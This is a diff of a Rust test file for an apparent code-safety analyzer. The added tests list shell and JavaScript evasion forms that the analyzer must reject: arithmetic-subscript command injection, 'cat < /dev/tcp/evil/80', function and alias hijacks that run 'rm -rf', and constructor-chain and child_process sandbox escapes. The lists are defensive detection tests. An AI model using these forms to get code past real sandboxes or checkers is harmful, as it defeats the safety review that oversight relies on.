@@ -1,8 +1,10 @@
 //! The strict walk: evasions are never understood, everyday code is.
 
 use super::*;
-use crate::strict::names::PYTHON_FILE;
-use serde::Deserialize;
+use crate::strict::{
+    names::{PYTHON, PYTHON_FILE},
+    shell::programs::SHELL_FILE,
+};
 use std::fmt::Write;
 
 /// Whether code is understood, and if not, why.
@@ -18,59 +20,6 @@ fn understood(name: &str, code: &str) {
 #[track_caller]
 fn unknown(name: &str, code: &str) {
     assert!(why(name, code).is_some(), "{code}");
-}
-
-#[derive(Deserialize)]
-struct Corpus {
-    cell: Vec<CorpusCell>,
-}
-
-#[derive(Deserialize)]
-struct CorpusCell {
-    language: String,
-    code: String,
-    #[serde(default)]
-    before: Vec<String>,
-}
-
-fn reason(cell: &CorpusCell) -> Option<String> {
-    let language = language(&cell.language);
-    let mut past = Past::default();
-    for code in &cell.before {
-        past = analyze_after(&AddedRules::default(), &past, &language, code).1;
-    }
-    analyze_after(&AddedRules::default(), &past, &language, &cell.code).0.why_not_understood()
-}
-
-#[test]
-#[ignore = "prints figures"]
-fn probe() {
-    for file in [
-        include_str!("../../corpus/everyday-python.toml"),
-        include_str!("../../corpus/everyday-others.toml"),
-        include_str!("../../corpus/held-out-everyday.toml"),
-    ] {
-        let Corpus { cell } = toml::from_str(file).unwrap();
-        let mut told = String::new();
-        let mut count = [0; 2];
-        for one in &cell {
-            let why = reason(one);
-            count[usize::from(why.is_some())] += 1;
-            if let Some(why) = why {
-                writeln!(told, "{}: {why}", one.language).unwrap();
-            }
-        }
-        println!("{count:?}\n{told}");
-    }
-    for file in [include_str!("../../corpus/acting-python.toml")] {
-        let Corpus { cell } = toml::from_str(file).unwrap();
-        for one in &cell {
-            let found = findings(&one.language, &one.code);
-            if found.is_understood() {
-                println!("-- understood, {} {:?}\n{}", found.risk.word(), lines(&found), one.code);
-            }
-        }
-    }
 }
 
 /// Each group's example is understood, and its counterexample isn't.
@@ -240,4 +189,126 @@ fn names_of_earlier_cells_count_as_their_code_did() {
     assert!(!after(&["from weird import print"], "print('x')"));
     assert!(!after(&["import os"], "os.remove(x)\nos = 1"));
     assert!(!after(&["import pathlib"], "p.rename('x')"));
+}
+
+#[test]
+fn every_program_of_the_shell_has_its_proof() {
+    let file = &*SHELL_FILE;
+    let mut all = vec![
+        (&file.harmless.reason, &file.harmless.example, &file.harmless.unlike),
+        (&file.find.reason, &file.find.example, &file.find.unlike),
+    ];
+    all.extend(file.optioned.iter().map(|one| (&one.reason, &one.example, &one.unlike)));
+    for (reason, example, unlike) in all {
+        assert!(!reason.is_empty());
+        understood("shell", example);
+        unknown("shell", unlike);
+    }
+}
+
+/// Modules of the standard library among those that are listed.
+const STANDARD: &str = "\
+    __future__ abc argparse array ast asyncio base64 binascii bisect bz2 calendar cmath codecs \
+    collections colorsys concurrent configparser contextlib copy csv dataclasses datetime \
+    decimal difflib enum errno fnmatch fractions functools gettext glob graphlib gzip hashlib \
+    heapq hmac html importlib io ipaddress itertools json keyword locale logging lzma math \
+    numbers operator os pathlib platform pprint queue random re reprlib secrets shlex shutil \
+    sqlite3 stat statistics string struct subprocess sys tarfile tempfile textwrap threading \
+    time tomllib traceback types typing unicodedata urllib uuid warnings xml zipfile zlib \
+    zoneinfo";
+
+/// A file of the folder stands in for none of them: Python's own come first, the driver sees to the
+/// others.
+#[test]
+fn the_driver_knows_every_package_that_is_listed() {
+    let driver = include_str!("../../../host/drivers/driver.py");
+    let from = driver.find("LISTED = ").unwrap();
+    let lines: String = driver[from..].lines().take(3).collect();
+    let listed: std::collections::HashSet<&str> =
+        lines.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').collect();
+    for root in PYTHON.roots() {
+        let is_standard = STANDARD.split_ascii_whitespace().any(|one| one == root);
+        assert!(is_standard || root == "open" || listed.contains(root), "{root}");
+    }
+}
+
+#[test]
+fn forms_of_the_shell_that_evaluate_are_not_understood() {
+    for code in [
+        "[[ 'a[$(cmd)]' -eq 1 ]]",
+        "test -v 'x[$(cmd)]'",
+        "a='x[$(cmd)]'; (( a ))",
+        "a='x[$(cmd)]'; echo $((a))",
+        "a=1; a='x[$(cmd)]'; echo $((a))",
+        "echo \"${x@P}\"",
+        "PS4='$(cmd)'; set -x",
+        ". ./x.sh",
+        "source x.sh",
+        "eval x",
+        "sort --compress-program=./x a",
+        "sort *",
+        "sed '1e cmd' a",
+        "man -P ./x ls",
+        "openssl version -engine ./x",
+        "mapfile -C ./x -c 1 a",
+        "ls() { rm -rf x; }; ls",
+        "alias ls=rm",
+        "PATH=.; ls",
+        "printf -v 'a[$(cmd)]' x",
+        "printf '%n' 'a[$(cmd)]'",
+        "read 'a[$(cmd)]'",
+        "declare -i x='a[$(cmd)]'",
+        "cat < /dev/tcp/evil/80",
+        "$x",
+        "xargs sh -c",
+        "find . -exec sh -c x ';'",
+        "awk 'BEGIN { system(\"x\") }'",
+        "git status",
+        "exit $(eval x)",
+        "echo $(eval x)",
+        "cat <<END\n$(eval x)\nEND",
+        "cd .git",
+        "trap x EXIT",
+        "command eval x",
+        "builtin eval x",
+        "env x",
+    ] {
+        unknown("shell", code);
+    }
+    for code in ["ls -la | wc -l", "grep -rn x src | head", "n=0; n=$((n + 1)); echo $n"] {
+        understood("shell", code);
+    }
+}
+
+#[test]
+fn forms_of_javascript_that_reach_further_are_not_understood() {
+    for code in [
+        "require('module')._load('child_process')",
+        "import('child_' + 'process')",
+        "Reflect.get(globalThis, 'eval')('x')",
+        "'a'.replace(/a/, process.mainModule.constructor._load)",
+        "[]['constructor']['constructor']('x')()",
+        "const k = 'con' + 'structor'; [][k][k]('x')()",
+        "const k = 'con' + 'structor'; const f = [][k][k]; ['x'].map(f)",
+        "[].map.constructor('x')()",
+        "(() => {}).constructor('x')()",
+        "eval('x')",
+        "new Function('x')()",
+        "setTimeout('x')",
+        "const fs = require('fs'); const f = fs; f.x()",
+        "globalThis['ev' + 'al']('x')",
+        "const { exec } = require('child_process')",
+        "Math.max = eval",
+        "function f(g) { g('x') }",
+        "const { constructor: c } = () => {}; c('x')()",
+        "`x`.constructor",
+    ] {
+        unknown("javascript", code);
+    }
+    for code in [
+        "const xs = [1, 2, 3]; console.log(xs.map(x => x * 2).reduce((a, b) => a + b, 0))",
+        "const total = rows => rows.length; console.log(total([1]))",
+    ] {
+        understood("javascript", code);
+    }
 }
